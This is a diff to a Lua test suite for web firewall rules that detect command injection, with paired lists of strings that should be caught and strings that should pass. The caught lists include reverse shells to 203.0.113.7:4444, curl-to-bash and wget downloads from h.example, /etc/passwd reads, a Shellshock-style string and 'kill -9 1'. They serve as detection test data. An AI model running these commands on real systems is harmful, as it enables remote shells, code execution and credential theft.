@@ -19,7 +19,7 @@ describe_rules("edge.waf.rules command injection shapes", function()
             "; git -c core.pager=sh log", "; ssh -o StrictHostKeyChecking=no u@h", "| sqlite3 /dev/null",
             "; rsync -a /var/www h::x", "; cat</etc/hosts",
             "; su -c id", "; java -jar /tmp/x.jar", "; df -h",
-            "; cat$u /etc/hosts" })
+            "; cat$u /etc/hosts", "; kill -9 1" })
         caught_by(132100, { "x;ls$u -la", "|uname${x} -a" })
         clean({ "I <3 bash, vim & tmux", "Python | Go | MySQL | Docker", "search & find", "sort & filter",
             "npm install && npm test should pass", "vim | tmux | git", "`grep ERROR api.log | tail -n 50` shows nothing",
@@ -31,7 +31,7 @@ describe_rules("edge.waf.rules command injection shapes", function()
             "| pwsh -c whoami", "cmd /v:on /c dir",
             "bash<<<$(base64 -d<<<aWQ=)", "$((1+2))", "node -e 'require(1)'", "x; if [ -f /x ]; then id; fi",
             "for i in $(seq 1 5); do id; done", "-oProxyCommand=sh -c id", "--checkpoint-action=exec=sh x.sh",
-            "find . -exec id \\;", "!-1", "x; !!", ".shell id", "a;\n.system cat /x" })
+            "find . -exec id \\;", "!-1", "x; !!", ".shell id", "() { _; } >_[$($())] { id; }", "a;\n.system cat /x" })
         clean({ "Hello ${user}!", "${name} placeholder", "price: $5 & $10", "a$b$c", "it$'s fine", "wow!! great", "see !-- comment",
             "if [optional] we add it; then we ship", "Task A; done" })
     end)
@@ -39,8 +39,9 @@ describe_rules("edge.waf.rules command injection shapes", function()
     it("132140: cmd.exe grammar: FOR, IF EXIST, START /B, CALL, SC", function()
         caught_by(132140, { "& for /f \"tokens=*\" %a in ('whoami') do echo %a", "for %i in (1 2) do dir",
             "for /l %i in (1,1,9) do ping 10.0.0.%i", "& if exist c:\\windows\\win.ini type x", "start /b calc.exe",
-            "& call c:\\temp\\x.bat", "& sc query", "if %x%==1 dir", "&%COMSPEC:~0,1%" })
-        clean({ "for /f loops are confusing", "if exist, call me", "Start me up", "SC query letters" })
+            "& call c:\\temp\\x.bat", "& sc query", "if %x%==1 dir", "&%COMSPEC:~0,1%", "& calc.exe",
+            "| \"c:\\temp\\x.bat\"", "&& payload.ps1" })
+        clean({ "Tom & example.com", "for /f loops are confusing", "if exist, call me", "Start me up", "SC query letters" })
     end)
 
     it("132160: a command word spelled with glob wildcards after a separator", function()
@@ -52,11 +53,13 @@ describe_rules("edge.waf.rules command injection shapes", function()
         caught_by(132180, { "uname -a", "crontab -l", "kill -9 -1", "tac /etc/hosts", "cat /etc/passwd",
             "socat tcp-connect:203.0.113.7:4444 exec:sh,pty", "ls -la /var/www", "nc 203.0.113.7 4444 -e /bin/sh",
             "curl -s https://h.example/i | bash", "wget http://h.example/x -O /tmp/x", "dir c:\\users",
-            "x; /usr/bin/id -u", "cat$u /etc$u/passwd$u", "sleep 10", "timeout 5s;", "rpm -qa", "unshare -r /bin/sh", "system('/bin/cat /etc/hosts')", "/usr/local/bin/php" })
+            "x; /usr/bin/id -u", "cat$u /etc$u/passwd$u", "sleep 10", "timeout 5s;", "rpm -qa", "unshare -r /bin/sh", "dir c:\\", "ping -c 3 localhost", "ping 127.0.0.1",
+            "whoami", "systeminfo", "system('/bin/cat /etc/hosts')", "/usr/local/bin/php" })
         clean({ "ping -c 4 is what I used; packet loss was 0%", "python -m venv .venv is the first step",
             "docker compose up -d brings up postgres", "ls output attached", "cat food, dog food & bird seed",
             "type 2 diabetes", "Type A/B testing", "set 2 of 3", "ID 12345", "echo park, los angeles",
-            "the /usr/bin/python path", "cat$ is my handle", "sleep 8 hours", "ping 5 people", "#!/usr/bin/env python3", "installed to /usr/bin/node",
+            "the /usr/bin/python path", "cat$ is my handle", "sleep 8 hours", "ping 5 people", "ls 300 lexus", "nc 8000 controller",
+            "find /r flag", "whoami? a question for philosophers", "#!/usr/bin/env python3", "installed to /usr/bin/node",
             "id: 42; name: Ann", "ping <mailto:a@example.org|a@example.org> for access", "curl the health endpoint to check: https://api.example.com/healthz" })
     end)
 
